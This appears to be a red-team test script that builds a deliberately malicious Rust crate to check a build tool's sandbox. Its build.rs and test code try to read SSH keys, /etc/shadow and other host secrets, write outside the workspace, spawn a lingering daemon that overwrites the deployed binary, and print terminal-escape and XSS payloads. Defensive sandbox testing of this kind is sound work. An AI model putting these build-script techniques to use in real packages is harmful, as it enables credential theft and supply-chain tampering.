# Claim (SECURITY §1, §7, §5a): a published crate's build.rs/tests cannot read host secrets, write outside the workspace, reach 127.0.0.1, outlive the build to change the deployed binary, or print escapes to the terminal. Run: .venv/bin/python attacks/a10_evil_crate.py
from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import threading
import time

from common import WORK, _manifest, crate, fb, registry

HERE = WORK / "a10"
shutil.rmtree(HERE, ignore_errors=True)
HERE.mkdir(parents=True)
SECRET = HERE / "host-secret.txt"
SECRET.write_text("TOPSECRET-rt3\n")
OUT = HERE / "outside-written"
SSH = os.path.expanduser("~/.ssh")
ESC = "\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J\\x1b]0;PWNED-TITLE\\x07<script>alert(1)</script>\\u{9b}31m"

# loopback listener: records whether anyone connects
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(5); PORT = srv.getsockname()[1]
hits: list[bytes] = []
def accept() -> None:
    srv.settimeout(400)
    try:
        while True:
            c, _ = srv.accept(); hits.append(c.recv(100) or b"(connect)"); c.close()
    except OSError:
        pass
threading.Thread(target=accept, daemon=True).start()

PROBE = f'''
use std::io::{{Read, Write}};
pub fn probe(tag: &str) -> String {{
    let mut r = String::new();
    for p in ["{SECRET}", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/etc/shadow", "/root/.bash_history"] {{
        if let Ok(s) = std::fs::read_to_string(p) {{ r.push_str(&format!("READ {{}} {{}};", p, s.len())); }}
    }}
    for p in ["{OUT}-{{}}", "/work/wt/redteam3/artifacts/redteam3/a10/pwn-{{}}", "/var/tmp/rt3-pwn-{{}}", "/dev/shm/rt3-pwn-{{}}"] {{
        let p = p.replace("{{}}", tag);
        if std::fs::write(&p, b"x").is_ok() {{ r.push_str(&format!("WROTE {{}};", p)); }}
    }}
    if let Ok(mut s) = std::net::TcpStream::connect(("127.0.0.1", {PORT})) {{ let _ = s.write_all(tag.as_bytes()); r.push_str("NET;"); }}
    // where is the cache? walk up from the cwd and try to write its proofs/ and store/
    let cwd = std::env::current_dir().unwrap();
    let mut d = cwd.clone();
    for _ in 0..6 {{
        for sub in ["proofs", "store", "tools", "intents"] {{
            let p = d.join(sub).join(format!("rt3-{{}}", tag));
            if d.join(sub).is_dir() && std::fs::write(&p, b"x").is_ok() {{ r.push_str(&format!("WROTECACHE {{}};", p.display())); }}
        }}
        if !d.pop() {{ break; }}
    }}
    let _ = std::io::stdin().read(&mut [0u8; 1]);
    r
}}
'''

BUILD_RS = PROBE + f'''
fn main() {{
    let r = probe("build");
    println!("cargo:warning=probe-build {{}}", r);
    println!("cargo:warning=ESC {ESC}");
    eprintln!("{ESC}");
    // a daemon that outlives the build and tampers later
    let _ = std::process::Command::new("sh").arg("-c")
        .arg("setsid sh -c 'sleep 25; for f in $(find / -xdev -path \\"*/bin/evilbin\\" -type f 2>/dev/null); do printf \\"#!/bin/sh\\\\necho DAEMON-TAMPERED\\\\n\\" > $f; done; touch {HERE}/daemon-alive' >/dev/null 2>&1 &")
        .status();
}}
'''

MAIN = '''fn main() { let a: Vec<String> = std::env::args().skip(1).collect(); if a.first().map(|s| s.as_str()) == Some("--help") { println!("Usage: evilbin [WORDS]\\x1b]52;c;aGVscA==\\x07"); return; } println!("honest {}", a.join(" ")); }
'''

TEST = PROBE + f'''
#[test]
fn probe_and_tamper() {{
    let r = probe("test");
    println!("probe-test {{}}", r);
    println!("{ESC}");
    // tamper with the built binary after the release build: is the deployed one the commit's?
    for p in ["target/release/evilbin", "../target/release/evilbin"] {{
        if std::path::Path::new(p).exists() {{
            let _ = std::fs::write(p, b"#!/bin/sh\\necho TEST-TAMPERED\\n");
        }}
    }}
    let _ = std::fs::write("src/main.rs", "fn main() {{ println!(\\"SRC-TAMPERED\\"); }}\\n");
}}
'''

spec = crate(
    "evilbin", "0.1.0",
    manifest=_manifest("evilbin", "0.1.0", '[[bin]]\nname = "evilbin"\npath = "src/main.rs"\n',
                       description="evil \\u001b]52;c;ZGVzYw==\\u0007 <img src=x onerror=alert(1)> \\u001b[31mred"),
    files={"build.rs": BUILD_RS, "src/main.rs": MAIN, "src/lib.rs": PROBE, "tests/t.rs": TEST,
           "README.md": "# evilbin \x1b]0;README-TITLE\x07 <script>x</script>\n"},
)
reg = registry("a10", [spec])
cache = HERE / "cache"
r = fb(cache, "build", "-r", str(reg), "--crate", "evilbin", "--name", "evil", "-v", "echo its words")
show = fb(cache, "show", "evil"); logs = fb(cache, "logs", "evil"); lst = fb(cache, "list")
srch = fb(cache, "search", "-r", str(reg), "evil")
time.sleep(35)  # give the daemon its chance
binary = None
m = re.search(r"(/\S*/bin/evilbin)", show.stdout + r.stdout + r.stderr)
found = list((cache / "store").glob("*/bin/evilbin"))
run_out = subprocess.run([str(found[0]), "hi"], capture_output=True, text=True).stdout if found else "(no binary)"

problems = []
allout = r.stdout + r.stderr + show.stdout + show.stderr + logs.stdout + lst.stdout + srch.stdout + srch.stderr
for door, text in [("build", r.stdout + r.stderr), ("show", show.stdout + show.stderr), ("logs", logs.stdout + logs.stderr),
                   ("list", lst.stdout), ("search", srch.stdout + srch.stderr)]:
    if "\x1b" in text or "\x07" in text or "\x9b" in text:
        problems.append(f"raw escape on terminal via {door}")
    if "Traceback" in text:
        problems.append(f"traceback via {door}")
for word in ("READ ", "NET;", "WROTECACHE"):  # "WROTE" alone lands in the sandbox's private root tmpfs; the host files are checked below
    if word in allout:
        problems.append(f"probe says {word}: " + re.findall(word + r"[^;]*;", allout)[0])
if hits:
    problems.append(f"loopback reached: {hits}")
written = [p for p in HERE.glob("outside-written*")] + list(HERE.glob("pwn-*")) + [p for p in map(__import__('pathlib').Path, ["/var/tmp/rt3-pwn-build", "/var/tmp/rt3-pwn-test", "/dev/shm/rt3-pwn-build", "/dev/shm/rt3-pwn-test"]) if p.exists()]
if written:
    problems.append(f"files outside workspace: {written}")
if (HERE / "daemon-alive").exists():
    problems.append("daemon outlived the build")
if "TAMPERED" in run_out:
    problems.append(f"deployed binary tampered: {run_out.strip()}")
cached = list(cache.rglob("rt3-build")) + list(cache.rglob("rt3-test"))
if cached:
    problems.append(f"wrote into cache: {cached}")
print("build rc", r.returncode, "| deployed says:", run_out.strip()[:80])
print("build stderr tail:", (r.stderr[-600:]).encode("unicode_escape").decode()[:600])
import sys
sys.path.insert(0, ".")
from common import verdict
if r.returncode != 0: problems.append("build failed (see stderr tail; inconclusive unless a probe fired)")
verdict("A10 evil crate (secrets/outside-write/net/daemon/tamper/escapes)", not problems and "honest hi" in run_out,
        "; ".join(problems) or f"nothing escaped; deployed binary says {run_out.strip()!r}")
